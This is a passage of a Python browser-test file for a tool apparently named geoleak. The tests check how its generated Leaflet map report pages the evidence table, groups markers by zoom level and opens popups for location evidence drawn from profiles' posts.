    monkeypatch.setattr(maps, "EVIDENCE_ROWS_FIRST", 5)
    monkeypatch.setattr(maps, "EVIDENCE_ROWS_MORE", 7)
    out = tmp_path / "paged"
    write_maps(result.profiles, result.evidence, out, sites=result.sites)
    page = out / person_page_name(person)
    expected = [maps.pin_id(e)[4:] for e in sorted(evidence, key=maps._evidence_sort_key)]
    rows = "return Array.from(document.querySelectorAll('#gl-evidence tbody tr')).map(r => r.id)"
    status = "return document.querySelector('#gl-evidence-more [role=status]').textContent"
    button = "return document.querySelector('#gl-evidence-more button[data-more={}]')"

    browser.open(page)
    _settle(browser)
    assert browser.js(rows) == [f"row-{a}" for a in expected[:5]]
    assert browser.js(status) == f"5 of {len(expected)} rows shown."
    browser.js(button.format('"7"') + ".click()")
    assert browser.js(rows) == [f"row-{a}" for a in expected[:12]]
    assert browser.js(status) == f"12 of {len(expected)} rows shown."
    # an added row is like a written one: its map link opens its pin's popup
    added = next(e for e in evidence if maps.pin_id(e)[4:] == expected[8])
    browser.js(f"document.querySelector('#row-{expected[8]} a[data-pin]').click()")
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    assert added.post_id in browser.js(
        "return document.querySelector('.leaflet-popup-content').innerText"
    )
    assert added.post_id in browser.js(
        f"return document.getElementById('row-{expected[8]}').innerText"
    )
    browser.js(button.format('"all"') + ".click()")
    assert browser.js(rows) == [f"row-{a}" for a in expected]
    assert browser.js(status) == f"{len(expected)} of {len(expected)} rows shown."
    assert browser.js(button.format('"all"') + ".hidden") is True
    _assert_clean(browser)

    # a link to a row not shown yet (a pin's "row in table", or from another page) shows it
    browser.open(page)
    browser.driver.get(page.as_uri() + f"#row-{expected[-1]}")
    browser.wait(f"document.getElementById('row-{expected[-1]}') !== null")
    assert browser.js(rows) == [f"row-{a}" for a in expected]
    assert browser.js("return document.querySelector('tr:target').id") == f"row-{expected[-1]}"
    _assert_clean(browser)


def test_a_dense_overview_draws_coarse_groups_at_low_zoom_and_finer_ones_closer_in(
    browser: Browser, demo: tuple[RunResult, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two levels of groups in one overlay: the coarse ones at low zoom, the finer ones
    built when the map first zooms in to them (after the time slider moved: only what it
    shows), each opening its popup on a real click (bound then), offline."""
    from geoleak.report import maps

    result, _out = demo
    monkeypatch.setattr(maps, "OVERVIEW_MAX_MARKERS", 100)
    monkeypatch.setattr(maps, "OVERVIEW_LOW_ZOOM_MARKERS", 50)
    monkeypatch.setattr(maps, "LEVEL_SWITCH_PX", 4096)  # the finer level only when close in
    out = tmp_path / "levels"
    write_maps(result.profiles, result.evidence, out, sites=result.sites)
    browser.open(out / "index.html")
    _settle(browser)
    detail = browser.js("return geoleak.levels[0].levels[1].minZoom")
    assert browser.js("return geoleak.map.getZoom()") < detail
    sizes = "return geoleak.levels[0].levels.map(l => l.layer.getLayers().length)"
    on_map = "return geoleak.levels[0].levels.map(l => geoleak.map.hasLayer(l.layer))"
    browser.js("geoleak.map.setZoom(1, {animate: false})")
    _settle(browser)
    coarse, fine = browser.js(sizes)
    assert 0 < coarse <= 50 and fine == 0  # the finer level is not built yet
    assert browser.js(on_map) == [True, False]
    # the slider first, then zoom in: the finer level is built showing the first k posts
    assert browser.js("return geoleak.timed[1].items.length") == 0  # the finer level, unbuilt
    browser.js("geoleak.showPosts(3)")
    assert browser.js(sizes)[0] == sum(
        1 for n in browser.js("return geoleak.timed[0].items.map(i => i.n)") if n <= 3
    )
    home = next(pl for p in result.profiles for pl in p.places if pl.kind.value == "home")
    browser.js(
        f"geoleak.map.setView([{home.position.lat}, {home.position.lon}], {detail},"
        " {animate: false})"
    )
    _settle(browser)
    assert browser.js(on_map) == [False, True]
    items = browser.js("return geoleak.timed[1].items.map(i => i.n)")
    assert len(items) > coarse
    assert browser.js(sizes)[1] == sum(1 for n in items if n <= 3)
    browser.js("geoleak.showPosts(Number(document.querySelector('.gl-range').max))")
    assert browser.js(sizes)[1] == len(items)
    # a real click on a drawn group opens its popup
    ll = browser.js(  # the group farthest from any place pin (a pin would take the click)
        "var far = (l) => Math.min(...geoleak.placeMarkers.map(m =>"
        " m.getLatLng().distanceTo(l.getLatLng())));"
        "var l = geoleak.levels[0].levels[1].layer.getLayers().reduce((a, b) =>"
        " far(a) >= far(b) ? a : b);"
        "return [l.getLatLng().lat, l.getLatLng().lng];"
    )
    browser.js(f"geoleak.map.setView({json.dumps(ll)}, {max(detail, 14)}, {{animate: false}})")
    _settle(browser)
    _click_dot(browser, ll)
    browser.wait("document.querySelector('.leaflet-popup-content') !== null")
    assert "located observation" in browser.js(
        "return document.querySelector('.leaflet-popup-content').innerText"
    )
    # the pointer on it showed its tooltip too (bound when first hovered)
    browser.wait("document.querySelector('.leaflet-tooltip') !== null")
    assert "located observation" in browser.js(
        "return document.querySelector('.leaflet-tooltip').innerText"
    )
    # zoomed out again: the coarse level; switched off and on: still one level shown
    browser.js("geoleak.map.setZoom(1, {animate: false})")
    _settle(browser)
    assert browser.js(on_map) == [True, False]
    label = "Evidence (grouped"
    toggle = (
        "var l = Array.from(document.querySelectorAll('.leaflet-control-layers-overlays label'))"
        ".find(l => l.textContent.indexOf(arguments[0]) >= 0);"
        "l.querySelector('input').click(); return l.querySelector('input').checked;"
    )
    assert browser.js(toggle, label) is False
    assert browser.js(on_map) == [False, False]
    assert browser.js(toggle, label) is True
    assert browser.js(on_map) == [True, False]
    _assert_clean(browser)
